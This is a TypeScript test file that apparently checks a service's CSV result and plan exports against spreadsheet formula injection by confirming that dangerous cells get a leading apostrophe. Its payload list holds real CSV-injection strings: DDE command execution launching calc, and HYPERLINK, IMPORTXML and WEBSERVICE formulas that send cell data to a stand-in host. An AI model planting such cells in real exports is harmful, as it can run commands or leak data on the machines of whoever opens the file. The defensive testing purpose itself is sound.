import test from 'ava'
import {parse} from 'csv-parse/sync'
import fc from 'fast-check'
import {writePlan} from '../../shared/runs/results/plan-csv.ts'
import {writeResults} from '../../shared/runs/results/results-csv.ts'
import type {RowOutcome} from '../../shared/runs/results/row-result.ts'
import {collect} from '../shared/files/chunks.ts'

/** A module whose label looks like a formula. */
const module = {apiName: 'Contacts', label: '=Contacts'}

/** Cells from public lists of attacks. Each starts a formula in some spreadsheet program. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example?leak="&A1,"error")',
  '=IMPORTXML(CONCAT("http://x.example/?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("http://x.example")',
  "='file:///etc/passwd'#$passwd.A1",
  '=-1',
  '=+1',
  '--1',
  '++1',
  '-1-',
  '+0x1',
  '-.5',
  '-1e5',
  '-1,',
  '=',
  '+',
  '-',
  '@',
  '=1\r\n=2',
  '=1,2',
  '="a"',
  "='a",
  '=1;2',
  '=1\t2',
  '=\u00a01',
  '-1.2.3',
  '+49 30 123',
]
const numbers = ['-1', '+1', '-1.5', '+1,5', '-0', '-00.10']

const isPlain = (cell: string) =>
  cell
    .replace(/^[+-]/, '')
    .split(/[.,]/)
    .every(part => part !== '' && [...part].every(digit => digit >= '0' && digit <= '9')) && cell.split(/[.,]/).length < 3

const read = (text: string) => parse(text, {relaxColumnCount: true}) as string[][]
const bare = (cell: string) => (cell.startsWith("'") && isRun(cell.slice(1)) ? cell.slice(1) : cell)
/**
 * Whether a spreadsheet program runs the cell as a formula: by its first character, except in plain numbers. Repeats the rule of the service
 * independently.
 */
const isRun = (cell: string) => '=+-@'.includes(cell.charAt(0)) && cell !== '' && !isPlain(cell)

async function* inChunks<T>(items: readonly T[]) {
  yield [...items]
}

const resultsOf = async (cells: string[][], columns: string[]) => {
  const rows = cells.map((row, at) => ({rowNumber: at + 1, cells: row, ragged: row.length !== columns.length}))
  const outcomes = cells.map(
    ([cell], at): RowOutcome => ({
      rowNumber: at + 1,
      entries: [{module: 'Contacts', outcome: 'failed', recordId: cell!, message: cell!, code: null}],
    }),
  )
  return read(String(await collect(writeResults({columns, modules: [module], rows: inChunks(rows), outcomes: inChunks(outcomes)}))))
}

test('results contain no formula in cells, column names, records or errors', async t => {
  const cells = [...payloads, ...numbers].map(cell => [cell, cell])
  const [head, ...lines] = await resultsOf(cells, ['=name', '@other'])
  for (const cell of [head!, ...lines].flat()) t.false(isRun(cell), cell)
  t.deepEqual(
    lines.map(line => line.slice(0, 2).map(bare)),
    cells,
  )
  t.deepEqual(
    lines.slice(payloads.length).map(([cell]) => cell),
    numbers,
    'numbers stay numbers',
  )
})

test('results contain no formula for any cells, which are all unchanged except for a leading apostrophe', async t => {
  const cell = fc.oneof(
    fc.constantFrom(...payloads, ...numbers),
    fc.string({unit: 'binary', maxLength: 12}).map(text => text.replaceAll('\0', '')),
  )
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(cell, cell), {minLength: 1, maxLength: 6}), async cells => {
      const [, ...lines] = await resultsOf(cells, ['a', 'b'])
      for (const one of lines.flat()) t.false(isRun(one), one)
      t.deepEqual(
        lines.map(line => line.slice(0, 2).map(bare)),
        cells.map(line => line.map(bare)),
      )
    }),
    {numRuns: 150},
  )
})

test('a plan contains no formula in sources, records, fields, values or reasons', async t => {
  const outcomes = payloads.map(
    (message, at): RowOutcome => ({
      rowNumber: at + 1,
      entries: [{module: 'Contacts', flow: 1, outcome: 'planned', recordId: message, message: 'update', code: null}],
    }),
  )
  const values = payloads.map((value, at) => ({row: at + 1, flow: 1, phase: 'write', changes: [[value, value, value]]}) as never)
  const planned = {outcomes: inChunks(outcomes), values: inChunks(values), source: '=source', modules: [module]}
  const lines = read(String(await collect(writePlan(planned))))
  t.is(lines.length, payloads.length + 1)
  for (const cell of lines.flat()) t.false(isRun(cell), cell)
  t.deepEqual(
    lines.slice(1).map(line => line.slice(5, 8).map(bare)),
    payloads.map(value => [value, value, value]),
  )
})
